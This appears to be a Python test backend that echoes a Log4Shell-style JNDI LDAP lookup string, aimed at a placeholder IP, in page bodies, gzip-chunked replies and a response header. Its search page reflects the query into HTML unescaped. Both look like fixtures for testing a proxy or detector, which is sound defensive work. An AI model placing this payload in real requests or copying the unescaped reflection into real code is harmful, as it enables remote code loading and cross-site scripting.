"""The application behind the web servers: app.py ADDRESS PORT. Python's own HTTP server.

It answers every request, reads bodies in any framing, and has a few pages with special answers.
"""

import gzip
import http.server
import sys
import urllib.parse

STORED = "${jndi:ldap://203.0.113.9:1389/%s}"


class Application(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "shop"
    sys_version = ""

    def log_message(self, *_):
        pass

    def answer(self, body, kind="application/json", headers=(), status=200):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def answer_chunked(self, body, headers):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Transfer-Encoding", "chunked")
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        for at in range(0, len(body), 25):
            piece = body[at:at + 25]
            self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
        self.wfile.write(b"0\r\n\r\n")

    def read_body(self):
        if self.headers.get("Transfer-Encoding", "").lower() != "chunked":
            return self.rfile.read(int(self.headers.get("Content-Length", 0)))
        parts = []
        while size := int(self.rfile.readline().split(b";")[0], 16):
            parts.append(self.rfile.read(size))
            self.rfile.readline()
        while self.rfile.readline() not in (b"\r\n", b""):
            pass
        return b"".join(parts)

    def do_GET(self):
        url = urllib.parse.urlsplit(self.path)
        query = urllib.parse.parse_qs(url.query)
        page = url.path.rsplit("/", 1)[-1]
        if page == "search":
            text = f"<p>Nothing found for {query['q'][0]}</p>"
            self.answer(text.encode(), "text/html")
        elif page == "stored":
            self.answer(f"<p>Comment: {STORED % 'stored'}</p>".encode(), "text/html")
        elif page == "stored-gzip":
            body = gzip.compress(f"<p>Comment: {STORED % 'stored-gzip'}</p>".encode(), mtime=0)
            self.answer_chunked(body, [("Content-Encoding", "gzip")])
        elif page == "header":
            self.answer(b"{}", headers=[("X-Last-Agent", STORED % "header")])
        elif page == "page.cgi":
            self.until_close(b"<p>" + b"All lines of this page end with the connection.\n" * 20)
        elif page == "unchanged":
            self.send_response(304)
            self.send_header("Content-Length", "4096")  # allowed: of the page, not of this answer
            self.end_headers()
        else:
            self.answer(b'{"ok": true}')

    do_HEAD = do_GET

    def until_close(self, body):
        self.protocol_version = "HTTP/1.0"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(body)
        self.close_connection = True

    def do_POST(self):
        size = len(self.read_body())
        self.answer(b'{"ok": true, "bytes": %d}' % size)

    do_PUT = do_POST


if __name__ == "__main__":
    http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), Application).serve_forever()
